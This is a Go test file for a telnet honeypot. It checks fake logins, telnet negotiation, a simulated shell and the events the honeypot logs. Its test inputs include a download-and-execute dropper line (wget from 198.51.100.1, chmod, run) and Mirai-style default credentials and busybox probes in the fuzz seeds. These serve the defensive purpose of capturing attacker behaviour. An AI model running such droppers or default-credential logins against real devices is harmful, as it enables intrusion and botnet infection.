package pots

import (
	"crypto/sha256"
	"fmt"
	"io"
	"net"
	"runtime"
	"strings"
	"testing"
	"time"

	"forager/conn/ring"
	"forager/pots/persona"
)

const busybox = "\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03"

// telnetEvent is an event that a session is expected to make.
type telnetEvent struct{ typ, fields string }

func failed(user, password string) telnetEvent {
	return telnetEvent{"telnet.login.failed", fmt.Sprintf(`{"username":%q,"password":%q}`, user, password)}
}

func success(user, password string) telnetEvent {
	return telnetEvent{"telnet.login.success", fmt.Sprintf(`{"username":%q,"password":%q}`, user, password)}
}

func command(input string) telnetEvent {
	return telnetEvent{"telnet.command.input", fmt.Sprintf(`{"input":%q}`, input)}
}

// router is the device that the tests' nodes pretend to be.
func router(t testing.TB) *persona.Persona {
	t.Helper()
	model, err := persona.Load("", "")
	if err != nil {
		t.Fatal(err)
	}
	return model.For(0)
}

func failedCommand(input string) telnetEvent {
	return telnetEvent{"telnet.command.failed", fmt.Sprintf(`{"input":%q}`, input)}
}

// uploaded is a text that was written to /tmp/f.
func uploaded(text string) telnetEvent {
	return telnetEvent{"telnet.session.file_upload", fmt.Sprintf(`{"filename":"/tmp/f","shasum":"%x","size":%d,"head":%q,"cause":"end"}`,
		sha256.Sum256([]byte(text)), len(text), text)}
}

func TestTelnet(t *testing.T) {
	const incorrect = "Login incorrect\r\n"
	device := router(t)
	login, motd := device.Telnet.Login, device.Telnet.Motd+"# "
	long := strings.Repeat("x", telnetLogin+7)
	tooLong := strings.Repeat("y", telnetLine+9)
	for _, c := range []struct {
		name, options, say, hear string
		events                   []telnetEvent
	}{
		{"nothing", "", "", "", nil},
		{"not telnet", "", "\x16\x03\x01\x00{\x01\xff\xff\x80", "^V^C\r\n" + login + "^A{^A\xff\x80",
			[]telnetEvent{{"telnet.session.data", `{"length":9,"payload_escaped":"\u0016\u0003\u0001\u0000{\u0001\\xff\\xff\\x80"}`}}},
		{"long and not telnet", "", strings.Repeat("x", 5000), strings.Repeat("x", telnetLogin),
			[]telnetEvent{{"telnet.session.data", fmt.Sprintf(`{"length":5000,"payload":%q}`, strings.Repeat("x", telnetRaw))}}},
		{"a user and no more", "", "root\r\n", "root\r\nPassword: ", []telnetEvent{{"telnet.session.data", `{"length":6,"payload":"root\r\n"}`}}},
		{"a password cut off", "", "root\r\nro", "root\r\nPassword: ", []telnetEvent{failed("root", "ro")}},
		{"ten empty names", "", strings.Repeat("\r\n", 11), strings.Repeat("\r\n"+login, 9) + "\r\n", nil},
		{"end of file", "", "\x04root\r\n", "", []telnetEvent{{"telnet.session.data", `{"length":1,"payload":"\u0004"}`}}},
		{"negotiation alone", "", "\xff\xfc\x01\xff\xfe\x03\r\n", "\r\n" + login, nil},
		{"three tries", "", "a\r\nb\r\nc\r\nd\r\ne\r\nf\r\ng\r\n",
			"a\r\nPassword: \r\n" + incorrect + login + "c\r\nPassword: \r\n" + incorrect + login + "e\r\nPassword: \r\n" + incorrect,
			[]telnetEvent{failed("a", "b"), failed("c", "d"), failed("e", "f")}},
		{"one try", "tries=1", "a\nb\nc", "a\r\nPassword: \r\n" + incorrect, []telnetEvent{failed("a", "b")}},
		{"empty password", "tries=1", "a\n\n", "a\r\nPassword: \r\n" + incorrect, []telnetEvent{failed("a", "")}},
		{"bytes of all kinds", "tries=1", "r\xc3\xb6\xff\xfft\"\\\r\x00p\xff\xff\x01\r\n", "r\xc3\xb6\xfft\"\\\r\nPassword: \r\n" + incorrect,
			[]telnetEvent{{"telnet.login.failed", `{"username_escaped":"rö\\xfft\"\\\\","password_escaped":"p\\xff\u0001"}`}}},
		{"long name", "tries=1", long + "\nx\n", long[:telnetLogin] + "\r\nPassword: \r\n" + incorrect,
			[]telnetEvent{{"telnet.login.failed", fmt.Sprintf(`{"username":%q,"password":"x","username_length":%d}`, long[:telnetLogin], len(long))}}},
		{"long password", "tries=1", "x\n" + long + "\n", "x\r\nPassword: \r\n" + incorrect,
			[]telnetEvent{{"telnet.login.failed", fmt.Sprintf(`{"username":"x","password":%q,"password_length":%d}`, long[:telnetLogin], len(long))}}},
		{"line editing", "tries=1", "rx\x7fo\x01\x08ot\r\njunk\x15pass\x7f\x7f\x7f\x7f\x7f\x7fpw\r\n",
			"rx\b \bo^A\b \b\b \bot\r\nPassword: \r\n" + incorrect, []telnetEvent{failed("root", "pw")}},
		{"interrupt at the password", "tries=1", "root\n\x03admin\n1234\n",
			"root\r\nPassword: ^C\r\n" + login + "admin\r\nPassword: \r\n" + incorrect, []telnetEvent{failed("admin", "1234")}},
		{"keys as telnet commands", "tries=1", "rx\xff\xf7oot\nxx\xff\xf8p\n\xff\xec", "rx\b \boot\r\nPassword: \r\n" + incorrect, []telnetEvent{failed("root", "p")}},
		{"negotiation in between", "tries=1",
			"\xff\xfb\x18\xff\xfb\x18\xff\xfa\x18\x00xterm-\xff\xff\xff\xf0\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0\xff\xfb\x1fro\xff\xfd\x01ot\n\xff\xfe\x01pw\n",
			"\xff\xfd\x18\xff\xfa\x18\x01\xff\xf0root\r\nPassword: \r\n" + incorrect,
			[]telnetEvent{{"telnet.client.var", `{"name":"TERM","value_escaped":"xterm-\\xff"}`}, {"telnet.client.size", `{"width":80,"height":24}`}, failed("root", "pw")}},
		{"a subnegotiation without end", "tries=1", "\xff\xfa\x18\x00vt100\xff\xfd\x01root\npw\n", "root\r\nPassword: \r\n" + incorrect, []telnetEvent{failed("root", "pw")}},
		{"a subnegotiation too long", "tries=1", "\xff\xfa\x18\x00" + strings.Repeat("t", 5000) + "\xff\xf0a\nb\n", "a\r\nPassword: \r\n" + incorrect,
			[]telnetEvent{{"telnet.client.var", fmt.Sprintf(`{"name":"TERM","value":%q}`, strings.Repeat("t", telnetSub-2))}, failed("a", "b")}},
		{"accept any", "accept=any", "root\r\nx\r\nnosuch -la\r\n\r\n  exit  \r\nls\r\n",
			"root\r\nPassword: \r\n" + motd + "nosuch -la\r\n-sh: nosuch: not found\r\n# \r\n#   exit  \r\n",
			[]telnetEvent{success("root", "x"), command("nosuch -la"), failedCommand("nosuch -la"), command("  exit  ")}},
		{"accept one pair", "accept=root:root,admin:a:b tries=2", "root\nadmin\nadmin\na:b\n\x04",
			"root\r\nPassword: \r\n" + incorrect + login + "admin\r\nPassword: \r\n" + motd, []telnetEvent{failed("root", "admin"), success("admin", "a:b")}},
		{"accept after two", "accept=after:2", "a\na\nb\nb\nc\nc\nexit\n",
			"a\r\nPassword: \r\n" + incorrect + login + "b\r\nPassword: \r\n" + incorrect + login + "c\r\nPassword: \r\n" + motd + "exit\r\n",
			[]telnetEvent{failed("a", "a"), failed("b", "b"), success("c", "c"), command("exit")}},
		{"a command cut off", `accept=any shell="$ "`, "a\nb\n\x03wget http", "a\r\nPassword: \r\n" + device.Telnet.Motd + "$ ^C\r\n$ wget http", []telnetEvent{success("a", "b"), command("wget http")}},
		{"a long command", "accept=any", "a\nb\n: " + tooLong + "\nexit\n",
			"a\r\nPassword: \r\n" + motd + ": " + tooLong[:telnetLine-2] + "\r\n# exit\r\n",
			[]telnetEvent{success("a", "b"), {"telnet.command.input", fmt.Sprintf(`{"input":%q,"input_length":%d}`, (": " + tooLong)[:MaxField], len(tooLong)+2)}, command("exit")}},
		{"several lines", "accept=any", "a\nb\nfor i in 1 2\ndo echo $i\ndone\nexit\n",
			"a\r\nPassword: \r\n" + motd + "for i in 1 2\r\n> do echo $i\r\n> done\r\n1\r\n2\r\n# exit\r\n",
			[]telnetEvent{success("a", "b"), command("for i in 1 2\ndo echo $i\ndone"), command("exit")}},
		{"typed into a file", "accept=any", "a\r\nb\r\ncat > /tmp/f\r\none\x7fE\r\ntwo\r\n\x04cat /tmp/f\r\nexit\r\n",
			"a\r\nPassword: \r\n" + motd + "cat > /tmp/f\r\none\b \bE\r\ntwo\r\n# cat /tmp/f\r\nonE\r\ntwo\r\n# exit\r\n",
			[]telnetEvent{success("a", "b"), command("cat > /tmp/f"), command("cat /tmp/f"), command("exit"), uploaded("onE\ntwo\n")}},
		{"interrupted", "accept=any", "a\nb\ncat\nx\nxx\x03exit\n",
			"a\r\nPassword: \r\n" + motd + "cat\r\nx\r\nxx^C\r\nx\r\n# exit\r\n", []telnetEvent{success("a", "b"), command("cat"), command("exit")}},
		{"cut off in a file", "accept=any", "a\nb\ncat > /tmp/f\none\ntw", "a\r\nPassword: \r\n" + motd + "cat > /tmp/f\r\none\r\ntw# ",
			[]telnetEvent{success("a", "b"), command("cat > /tmp/f"), uploaded("one\ntw")}},
		{"cut off in a quote", "accept=any", "a\nb\necho \"one\n", "a\r\nPassword: \r\n" + motd + "echo \"one\r\n> ",
			[]telnetEvent{success("a", "b"), command("echo \"one")}},
		{"a download", "accept=any shell-download=fake", "a\nb\ncd /tmp;wget -q http://198.51.100.1/x;chmod +x x;./x;rm x\nexit\n",
			"a\r\nPassword: \r\n" + motd + "cd /tmp;wget -q http://198.51.100.1/x;chmod +x x;./x;rm x\r\n# exit\r\n",
			[]telnetEvent{success("a", "b"), command("cd /tmp;wget -q http://198.51.100.1/x;chmod +x x;./x;rm x"),
				{"telnet.session.file_download", `{"url":"http://198.51.100.1/x","found":"command","command":"wget","destfile":"/tmp/x"}`},
				{"telnet.command.run", `{"filename":"/tmp/x","input":"./x","url":"http://198.51.100.1/x"}`}, command("exit")}},
		{"hostname and banner", `hostname=cam banner="Welcome\r\n" tries=1`, "a\nb\n", "a\r\nPassword: \r\n" + incorrect, []telnetEvent{failed("a", "b")}},
	} {
		t.Run(c.name, func(t *testing.T) {
			hello := busybox + device.Telnet.Banner + login
			if strings.HasPrefix(c.options, "hostname") {
				hello = busybox + "Welcome\r\ncam login: "
			}
			for _, chunk := range []int{len(c.say), 1, 3} {
				n := newNode(t, Config{}).run()
				addr := n.pots("telnet listen=127.0.0.1:0 " + c.options)
				n.m.all()[0].handler.(*telnet).sleep = func(time.Duration) {}
				peer := dial(t, addr)
				peer.until(hello)
				n.expect("telnet.session.connect", `{}`)
				heard := peer.converse(c.say, chunk)
				if heard != c.hear {
					t.Errorf("by %d: heard %q, want %q", chunk, heard, c.hear)
				}
				for _, e := range c.events {
					n.expect(e.typ, e.fields)
				}
				n.expect("telnet.session.closed", anyClose)
				n.stop()
			}
		})
	}
}

// TestTelnetWaitsForAnswers: a netkit server's first options stand alone until
// the client answers, or is silent for a moment.
func TestTelnetWaitsForAnswers(t *testing.T) {
	n := newNode(t, Config{}).run()
	addr := n.pots("telnet listen=127.0.0.1:0 negotiate=linux banner=B prompt=P:")
	hello := telnetHello["linux"]
	for _, say := range []string{"", "\xff\xfc\x18", "root\r\n"} {
		var peer *client
		for tries := 0; ; tries++ { // a busy machine may read after the moment
			peer = dial(t, addr)
			got := make([]byte, 256)
			k, err := peer.Read(got)
			mustNot(t, err)
			if string(got[:k]) == hello.first {
				break
			}
			if tries > 5 {
				t.Fatalf("at first %q, want %q alone", got[:k], hello.first)
			}
			peer.Close()
		}
		_, err := io.WriteString(peer, say)
		mustNot(t, err)
		peer.until(hello.then + "BP:")
		if say == "root\r\n" {
			peer.until("root\r\nPassword: ")
		}
		peer.Close()
	}
}

// converse says all in pieces and half-closes, and returns what it heard.
func (c *client) converse(say string, chunk int) string {
	heard := make(chan string)
	go func() { heard <- c.restQuietly() }()
	for say != "" {
		k := min(chunk, len(say))
		if _, err := io.WriteString(c, say[:k]); err != nil {
			break // it hung up, as it may
		}
		say = say[k:]
	}
	_ = c.Conn.(*net.TCPConn).CloseWrite()
	return <-heard
}

func (c *client) restQuietly() string {
	got, _ := io.ReadAll(c)
	return string(got)
}

func TestTelnetTooManyCommands(t *testing.T) {
	n := newNode(t, Config{}).run()
	peer := dial(t, n.pots("telnet listen=127.0.0.1:0 accept=any"))
	peer.converse("a\nb\n"+strings.Repeat(":\n", telnetLines+100), 1<<16)
	await(t, "the end", func() bool { p, _ := n.m.Info("telnet"); return p.Counters.Conns == 1 && p.Counters.Open == 0 })
	if p, _ := n.m.Info("telnet"); p.Counters.Events != telnetLines+2 && p.Counters.Events != telnetLines+3 {
		t.Errorf("%+v", p.Counters)
	}
}

// TestTelnetAfterCountsAddresses: bots try one login a connection.
func TestTelnetAfterCountsAddresses(t *testing.T) {
	n := newNode(t, Config{}).run()
	addr := n.pots("telnet listen=127.0.0.1:0 accept=after:1")
	for _, c := range []struct{ from, want string }{
		{"127.0.0.1", "login.failed"}, {"127.0.0.2", "login.failed"}, {"127.0.0.1", "login.success"}, {"127.0.0.2", "login.success"},
	} {
		peer := dialFrom(t, c.from, addr)
		peer.converse("a\nb\n\x04\x04", 1<<10)
		n.expect("telnet.session.connect", `{}`)
		n.expect("telnet."+c.want, `{"username":"a","password":"b"}`)
		n.expect("telnet.session.closed", anyClose)
	}
	if p, _ := n.m.Info("telnet"); p.Counters.Logins != 4 {
		t.Errorf("%+v", p.Counters)
	}
}

// mute is a peer for sessions without a socket: it says what it was given in
// pieces, and keeps what it hears.
type mute struct {
	net.Conn
	say   []byte
	chunk int
	heard []byte
	most  int // bytes of the longest write
}

func (m *mute) Read(p []byte) (int, error) {
	if len(m.say) == 0 {
		return 0, io.EOF
	}
	n := copy(p, m.say[:min(m.chunk, len(m.say))])
	m.say = m.say[n:]
	return n, nil
}

func (m *mute) Write(p []byte) (int, error) {
	m.heard, m.most = append(m.heard, p...), max(m.most, len(p))
	return len(p), nil
}
func (m *mute) SetDeadline(time.Time) error { return nil }
func (m *mute) Close() error                { return nil }

// handlerOf makes a pot that is never started.
func (n *node) handlerOf(line string) *instance {
	n.t.Helper()
	s, err := ParseSpec(line)
	mustNot(n.t, err)
	i, err := n.m.newInstance(s, true)
	mustNot(n.t, err)
	return i
}

// serve has a pot serve a peer without the guard.
func (n *node) serve(i *instance, peer net.Conn) {
	c := &Conn{nc: peer, l: &listener{inst: i}, session: 1, idle: time.Hour}
	c.start = c.l.now()
	i.handler.Serve(c)
}

// drain returns the types and data of all events.
func (n *node) drain() string {
	var b strings.Builder
	for n.ring.Peek(n.batch) > 0 {
		var e ring.Event
		for n.batch.Next(&e) {
			fmt.Fprintf(&b, "%s %s\n", e.Type, e.Data)
		}
		n.ring.Forget(n.batch.Last())
	}
	return b.String()
}

// FuzzTelnet: whatever comes, the session does the same in every cut.
func FuzzTelnet(f *testing.F) {
	for _, s := range []string{
		"root\r\nxc3511\r\nenable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\r\n",
		"\xff\xfb\x18\xff\xfa\x18\x00xterm\xff\xf0\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0a\x00b\r\x00c\r\n",
		"\xff\xff\xff\xfa\xff\xff\xff\x00\xff\xf0\xff", "\x03\x04", "a\nb\n\x15\x7f\x08\x1b[A\nexit\nmore",
		"GET / HTTP/1.0\r\nHost: x\r\n\r\n", "\xff\xf4\xff\xf3\xff\xec",
	} {
		f.Add([]byte(s))
	}
	n := newNode(f, Config{})
	defer n.ring.Close()
	inst := n.handlerOf("telnet listen=:23 accept=any")
	f.Fuzz(func(t *testing.T, say []byte) {
		var hear, told string
		for i, chunk := range []int{1 << 20, 1, 7} {
			peer := &mute{say: say, chunk: chunk}
			n.serve(inst, peer)
			events := n.drain()
			if i == 0 {
				hear, told = string(peer.heard), events
			}
			if string(peer.heard) != hear || events != told {
				t.Fatalf("in pieces of %d: heard %q and told\n%s, whole: %q and\n%s", chunk, peer.heard, events, hear, told)
			}
		}
	})
}

// TestTelnetAllocations: a session of an attacker allocates nothing in the
// pot once the pools are warm. What net and the goroutine take is not counted.
func TestTelnetAllocations(t *testing.T) {
	n := newNode(t, Config{})
	defer n.ring.Close()
	inst := n.handlerOf("telnet listen=:23 tries=1")
	say := []byte("root\r\nxc3511\r\n")
	peer := &mute{chunk: 1 << 10}
	c := &Conn{nc: peer, l: &listener{inst: inst}, session: 1, idle: time.Hour}
	session := func() {
		peer.say, peer.heard = say, peer.heard[:0]
		c.Event("session.connect").Send()
		c.start = c.l.now()
		inst.handler.Serve(c)
	}
	for range logLines {
		session()
	}
	if got := testing.AllocsPerRun(1000, session); got >= 1 && !raceDetector {
		t.Errorf("%v allocations a session", got)
	}
}

// TestTelnetIdleStack: a client that never says a word costs the smallest
// stack there is. One frame more in Serve or Conn.Read, and it is twice that.
func TestTelnetIdleStack(t *testing.T) {
	if raceDetector {
		t.Skip("its frames are larger")
	}
	if !alone(t) {
		return
	}
	const conns = 200
	n := newNode(t, Config{}).run()
	addr := n.pots("telnet listen=127.0.0.1:0")
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	for range conns {
		dial(t, addr).until("login: ")
	}
	runtime.ReadMemStats(&after)
	if each := int64(after.StackInuse-before.StackInuse) / conns; each > idleStack {
		t.Errorf("%d bytes of stack a connection", each)
	}
}
